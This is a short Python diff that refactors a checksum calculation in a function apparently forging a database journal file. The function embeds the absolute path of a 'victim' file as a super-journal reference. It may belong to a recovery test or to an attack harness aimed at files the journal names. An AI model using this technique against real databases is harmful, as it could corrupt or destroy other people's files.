@@ -32,8 +32,9 @@ def put(path, data):
 
 def name_super(trace, victim):
     name = os.path.abspath(victim).encode()
+    checksum = sum(struct.unpack('%db' % len(name), name)) & 0xffffffff
     put(trace + '-journal', header(trace) + struct.pack('>I', 0x40000000 // 4096 + 1) + name +
-        struct.pack('>II', len(name), sum(struct.unpack('%db' % len(name), name)) & 0xffffffff) + MAGIC)
+        struct.pack('>II', len(name), checksum) + MAGIC)
 
 
 def die_in(trace, sql, mode):
